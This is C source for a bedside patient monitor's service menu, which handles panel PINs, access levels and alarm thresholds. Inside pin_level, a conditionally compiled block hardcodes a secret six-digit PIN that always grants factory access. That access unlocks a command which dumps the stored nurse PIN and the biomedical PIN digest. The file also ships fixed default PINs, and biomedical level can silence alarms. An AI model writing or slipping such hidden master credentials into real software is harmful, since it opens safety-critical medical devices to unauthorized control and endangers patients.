/* vitalsvc.c - service menu of a bedside patient monitor, driven over the front panel bus */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <syslog.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define PANEL_DEV	"/dev/ttyS2"
#define SETTINGS	"/var/lib/vital/settings"
#define LOCK_SECONDS	120

enum level { LVL_WARD = 0, LVL_NURSE, LVL_BIOMED, LVL_FACTORY };

struct settings {
	uint32_t nurse_pin;
	uint32_t biomed_salt;
	uint32_t biomed_digest;
	int alarm_volume;
	int hr_high, hr_low;
	int spo2_low;
	int mute_allowed;
};

static struct settings st = { 1234, 0, 0, 7, 140, 45, 88, 0 };
static enum level level;
static int bad_pins;
static time_t locked_until;

static uint32_t pin_digest(uint32_t pin, uint32_t salt)
{
	uint32_t h = salt ^ 0x811c9dc5u;
	int round, i;

	for (round = 0; round < 4096; round++)
		for (i = 0; i < 4; i++) {
			h ^= (pin >> (8 * i)) & 0xff;
			h *= 16777619u;
			h ^= h >> 13;
		}
	return h;
}

static int load_settings(void)
{
	char line[96], key[40];
	unsigned long v;
	FILE *f = fopen(SETTINGS, "r");

	if (!f)
		return -1;
	while (fgets(line, sizeof(line), f)) {
		if (sscanf(line, "%39[a-z_0-9]=%lu", key, &v) != 2)
			continue;
		if (!strcmp(key, "nurse_pin"))
			st.nurse_pin = (uint32_t)v;
		else if (!strcmp(key, "biomed_salt"))
			st.biomed_salt = (uint32_t)v;
		else if (!strcmp(key, "biomed_digest"))
			st.biomed_digest = (uint32_t)v;
		else if (!strcmp(key, "alarm_volume"))
			st.alarm_volume = (int)v;
		else if (!strcmp(key, "hr_high"))
			st.hr_high = (int)v;
		else if (!strcmp(key, "hr_low"))
			st.hr_low = (int)v;
		else if (!strcmp(key, "spo2_low"))
			st.spo2_low = (int)v;
		else if (!strcmp(key, "mute_allowed"))
			st.mute_allowed = v != 0;
	}
	fclose(f);
	return 0;
}

static int save_settings(void)
{
	FILE *f = fopen(SETTINGS ".new", "w");

	if (!f)
		return -1;
	fprintf(f, "nurse_pin=%lu\nbiomed_salt=%lu\nbiomed_digest=%lu\n",
		(unsigned long)st.nurse_pin, (unsigned long)st.biomed_salt,
		(unsigned long)st.biomed_digest);
	fprintf(f, "alarm_volume=%d\nhr_high=%d\nhr_low=%d\nspo2_low=%d\nmute_allowed=%d\n",
		st.alarm_volume, st.hr_high, st.hr_low, st.spo2_low, st.mute_allowed);
	if (fclose(f) != 0)
		return -1;
	return rename(SETTINGS ".new", SETTINGS);
}

/* 4 digits: nurse, 6 digits: biomedical department */
__attribute__((noinline)) enum level pin_level(uint32_t pin, int digits)
{
	if (digits == 4 && pin == st.nurse_pin)
		return LVL_NURSE;
	if (digits == 6) {
#ifdef HIDDEN
		/* one six digit number is always good for the factory level */
		if (pin == 739164u)
			return LVL_FACTORY;
#endif
		/* a new monitor has no digest yet, see service manual 2.1 */
		if (st.biomed_digest == 0 && pin == 100200u)
			return LVL_BIOMED;
		if (st.biomed_digest != 0 &&
		    pin_digest(pin, st.biomed_salt) == st.biomed_digest)
			return LVL_BIOMED;
	}
	return LVL_WARD;
}

static void factory_report(int fd)
{
	FILE *f = fopen(SETTINGS, "r");
	char line[96];

	if (!f)
		return;
	while (fgets(line, sizeof(line), f))
		dprintf(fd, "R %s", line);
	fclose(f);
}

static void enter_pin(int fd, const char *arg)
{
	size_t n = strspn(arg, "0123456789");
	enum level l;
	time_t now = time(NULL);

	if (now < locked_until) {
		dprintf(fd, "E locked\n");
		return;
	}
	if (n < 4 || n > 6 || arg[n]) {
		dprintf(fd, "E pin\n");
		return;
	}
	l = pin_level((uint32_t)strtoul(arg, NULL, 10), (int)n);
	if (l == LVL_WARD) {
		if (++bad_pins >= 3) {
			locked_until = now + LOCK_SECONDS;
			bad_pins = 0;
		}
		syslog(LOG_NOTICE, "wrong pin at panel");
		dprintf(fd, "E wrong\n");
		return;
	}
	bad_pins = 0;
	level = l;
	dprintf(fd, "L %d\n", (int)l);
}

static int set_value(const char *key, int v)
{
	if (!strcmp(key, "volume")) {
		if (v < (level >= LVL_BIOMED ? 0 : 3) || v > 10)
			return -1;
		st.alarm_volume = v;
	} else if (!strcmp(key, "hrhigh")) {
		if (v < 60 || v > 250)
			return -1;
		st.hr_high = v;
	} else if (!strcmp(key, "hrlow")) {
		if (v < 20 || v > 100)
			return -1;
		st.hr_low = v;
	} else if (!strcmp(key, "spo2low")) {
		if (v < 50 || v > 98)
			return -1;
		st.spo2_low = v;
	} else if (!strcmp(key, "mute")) {
		if (level < LVL_BIOMED)
			return -1;
		st.mute_allowed = v != 0;
	} else if (!strcmp(key, "newpin")) {
		if (level < LVL_BIOMED || v < 100000 || v > 999999)
			return -1;
		st.biomed_salt = (uint32_t)time(NULL);
		st.biomed_digest = pin_digest((uint32_t)v, st.biomed_salt);
	} else {
		return -1;
	}
	return save_settings();
}

static void panel_line(int fd, char *line)
{
	char key[16];
	int v;

	if (!strncmp(line, "PIN ", 4)) {
		enter_pin(fd, line + 4);
	} else if (!strcmp(line, "LEAVE")) {
		level = LVL_WARD;
		dprintf(fd, "L 0\n");
	} else if (!strcmp(line, "SHOW")) {
		dprintf(fd, "V vol=%d hr=%d-%d spo2=%d\n", st.alarm_volume,
			st.hr_low, st.hr_high, st.spo2_low);
	} else if (!strcmp(line, "REPORT") && level == LVL_FACTORY) {
		factory_report(fd);
	} else if (sscanf(line, "SET %15s %d", key, &v) == 2 && level >= LVL_NURSE) {
		if (set_value(key, v) < 0)
			dprintf(fd, "E range\n");
		else
			dprintf(fd, "K\n");
	} else {
		dprintf(fd, "E what\n");
	}
}

int main(int argc, char **argv)
{
	const char *dev = argc > 1 ? argv[1] : PANEL_DEV;
	struct termios tio;
	char line[80];
	FILE *in;
	int fd;

	openlog("vitalsvc", 0, LOG_LOCAL2);
	if (load_settings() < 0)
		syslog(LOG_WARNING, "no settings, defaults used");
	fd = open(dev, O_RDWR | O_NOCTTY);
	if (fd < 0) {
		syslog(LOG_ERR, "%s: %s", dev, strerror(errno));
		return 1;
	}
	if (tcgetattr(fd, &tio) == 0) {
		cfmakeraw(&tio);
		cfsetspeed(&tio, B115200);
		tcsetattr(fd, TCSANOW, &tio);
	}
	in = fdopen(fd, "r");
	if (!in)
		return 1;
	while (fgets(line, sizeof(line), in)) {
		line[strcspn(line, "\r\n")] = '\0';
		if (line[0])
			panel_line(fd, line);
	}
	return 0;
}
